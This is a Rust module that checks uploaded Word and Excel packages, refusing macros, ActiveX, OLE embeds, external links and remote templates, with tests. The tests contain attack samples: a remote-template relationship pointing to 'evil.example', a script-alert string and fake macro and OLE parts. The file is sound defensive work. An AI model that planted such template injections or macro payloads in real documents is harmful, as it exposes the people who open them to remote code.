//! Inspection of an uploaded Word or Excel file (an OOXML package) before it is stored: the
//! package must declare a Word document or an Excel workbook as its main part, and must not
//! carry what makes such files dangerous to the people who open them later — macros, ActiveX
//! controls, embedded OLE programs, external workbook links or remote templates. Everything is
//! read with bounded sizes; nothing declared by the file is trusted for an allocation.

use quick_xml::events::Event;
use std::io::{Cursor, Read};

/// What an accepted package is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OfficeKind {
    Docx,
    Xlsx,
}

impl OfficeKind {
    pub fn content_type(self) -> &'static str {
        match self {
            OfficeKind::Docx => {
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
            }
            OfficeKind::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }
    pub fn extension(self) -> &'static str {
        match self {
            OfficeKind::Docx => "docx",
            OfficeKind::Xlsx => "xlsx",
        }
    }
}

const MAX_ENTRIES: usize = 2_000;
const MAX_DECLARED: u64 = 400 * 1024 * 1024;
/// Content-type and relationship parts are small; a larger one is not a real package.
const MAX_PART: u64 = 2 * 1024 * 1024;

const DOCX_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const XLSX_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

const NOT_OFFICE: &str = "文件不是有效的 Word（.docx）或 Excel（.xlsx）文档";

/// Checks a ZIP upload as an OOXML package; the error is a Chinese sentence for the user.
pub fn inspect(bytes: &[u8]) -> Result<OfficeKind, String> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| NOT_OFFICE.to_string())?;
    if zip.len() > MAX_ENTRIES {
        return Err("文档结构异常（内部文件过多），已拒绝".into());
    }
    let mut declared = 0u64;
    let mut rels = vec![];
    let mut content_types = None;
    for i in 0..zip.len() {
        let f = zip.by_index_raw(i).map_err(|_| NOT_OFFICE.to_string())?;
        declared = declared.saturating_add(f.size());
        let name = f
            .name()
            .map_err(|_| NOT_OFFICE.to_string())?
            .replace('\\', "/")
            .to_ascii_lowercase();
        if name.contains("vbaproject") || name.contains("vbadata") {
            return Err("文档含有宏，不能上传（请另存为不含宏的 .docx 或 .xlsx）".into());
        }
        if name.contains("/activex/") {
            return Err("文档含有 ActiveX 控件，不能上传".into());
        }
        if name.contains("/externallinks/") {
            return Err("工作簿含有指向其他文件的外部链接，不能上传（请先断开链接）".into());
        }
        if name.contains("/embeddings/") && name.ends_with(".bin") {
            return Err("文档内嵌了 OLE 对象（可能是程序），不能上传".into());
        }
        if name == "[content_types].xml" {
            content_types = Some((i, f.size()));
        } else if name.ends_with(".rels") {
            rels.push((i, f.size()));
        }
    }
    if declared > MAX_DECLARED {
        return Err("文档解压后过大，已拒绝".into());
    }
    let (ct_index, ct_size) = content_types.ok_or_else(|| NOT_OFFICE.to_string())?;
    let types = part_text(&mut zip, ct_index, ct_size)?;
    let kind = main_kind(&types)?;
    for (i, size) in rels {
        let text = part_text(&mut zip, i, size)?;
        check_relationships(&text)?;
    }
    Ok(kind)
}

fn part_text(
    zip: &mut zip::ZipArchive<Cursor<&[u8]>>,
    index: usize,
    size: u64,
) -> Result<String, String> {
    if size > MAX_PART {
        return Err("文档结构异常，已拒绝".into());
    }
    let f = zip.by_index(index).map_err(|_| NOT_OFFICE.to_string())?;
    let mut text = String::new();
    f.take(MAX_PART + 1)
        .read_to_string(&mut text)
        .map_err(|_| NOT_OFFICE.to_string())?;
    Ok(text)
}

/// The kind named by `[Content_Types].xml`; macro-enabled kinds are refused.
fn main_kind(types: &str) -> Result<OfficeKind, String> {
    let mut reader = quick_xml::Reader::from_str(types);
    let mut kind = None;
    loop {
        match reader.read_event().map_err(|_| NOT_OFFICE.to_string())? {
            Event::Start(e) | Event::Empty(e) => {
                for a in e.attributes() {
                    let a = a.map_err(|_| NOT_OFFICE.to_string())?;
                    if a.key.local_name().as_ref() != "ContentType" {
                        continue;
                    }
                    let v = a.value.to_ascii_lowercase();
                    if v.contains("macroenabled") || v.contains("vbaproject") {
                        return Err(
                            "文档含有宏，不能上传（请另存为不含宏的 .docx 或 .xlsx）".into()
                        );
                    }
                    if v.contains("activex") {
                        return Err("文档含有 ActiveX 控件，不能上传".into());
                    }
                    if v == DOCX_MAIN {
                        kind = Some(OfficeKind::Docx);
                    } else if v == XLSX_MAIN {
                        kind = Some(OfficeKind::Xlsx);
                    }
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    kind.ok_or_else(|| NOT_OFFICE.to_string())
}

/// External targets are allowed only for hyperlinks: an external template, frame, OLE link or
/// workbook link is fetched by the office program when someone opens the file.
fn check_relationships(xml: &str) -> Result<(), String> {
    let mut reader = quick_xml::Reader::from_str(xml);
    loop {
        match reader.read_event().map_err(|_| NOT_OFFICE.to_string())? {
            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == "Relationship" => {
                let mut external = false;
                let mut hyperlink = false;
                for a in e.attributes() {
                    let a = a.map_err(|_| NOT_OFFICE.to_string())?;
                    match a.key.local_name().as_ref() {
                        "TargetMode" => external = a.value.eq_ignore_ascii_case("external"),
                        "Type" => hyperlink = a.value.ends_with("/hyperlink"),
                        _ => {}
                    }
                }
                if external && !hyperlink {
                    return Err(
                        "文档引用了外部模板或外部对象（打开时会访问其他地址），不能上传".into(),
                    );
                }
            }
            Event::Eof => return Ok(()),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn package(parts: &[(&str, &str)]) -> Vec<u8> {
        let mut buf = Cursor::new(Vec::new());
        {
            let mut z = zip::ZipWriter::new(&mut buf);
            for (name, text) in parts {
                z.start_file(*name, zip::write::SimpleFileOptions::default())
                    .unwrap();
                z.write_all(text.as_bytes()).unwrap();
            }
            z.finish().unwrap();
        }
        buf.into_inner()
    }

    fn types(main: &str) -> String {
        format!(
            r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="{main}"/></Types>"#
        )
    }

    #[test]
    fn real_documents_pass() {
        let xlsx = crate::workbook::template().unwrap();
        assert_eq!(inspect(&xlsx), Ok(OfficeKind::Xlsx));
        let docx = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            (
                "word/_rels/document.xml.rels",
                r#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.cn" TargetMode="External"/></Relationships>"#,
            ),
            ("word/document.xml", "<w:document/>"),
        ]);
        assert_eq!(inspect(&docx), Ok(OfficeKind::Docx));
    }

    #[test]
    fn dangerous_or_fake_packages_are_refused() {
        // a ZIP of HTML with xl/ in its names
        let html = package(&[("xl/index.html", "<script>alert(1)</script>")]);
        assert!(inspect(&html).unwrap_err().contains("不是有效"));
        // macro-enabled workbook
        let xlsm = package(&[
            (
                "[Content_Types].xml",
                &types("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            ),
            ("xl/workbook.xml", "<workbook/>"),
        ]);
        assert!(inspect(&xlsm).unwrap_err().contains("宏"));
        // a macro project hidden in an ordinary-looking workbook
        let hidden = package(&[
            ("[Content_Types].xml", &types(XLSX_MAIN)),
            ("xl/vbaProject.bin", "x"),
        ]);
        assert!(inspect(&hidden).unwrap_err().contains("宏"));
        // external workbook link
        let linked = package(&[
            ("[Content_Types].xml", &types(XLSX_MAIN)),
            ("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        ]);
        assert!(inspect(&linked).unwrap_err().contains("外部链接"));
        // remote template (template injection)
        let remote = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            (
                "word/_rels/settings.xml.rels",
                r#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
            ),
        ]);
        assert!(inspect(&remote).unwrap_err().contains("外部模板"));
        // embedded OLE program
        let ole = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            ("word/embeddings/oleObject1.bin", "MZ"),
        ]);
        assert!(inspect(&ole).unwrap_err().contains("OLE"));
        assert!(inspect(b"PK\x03\x04garbage").is_err());
    }
}
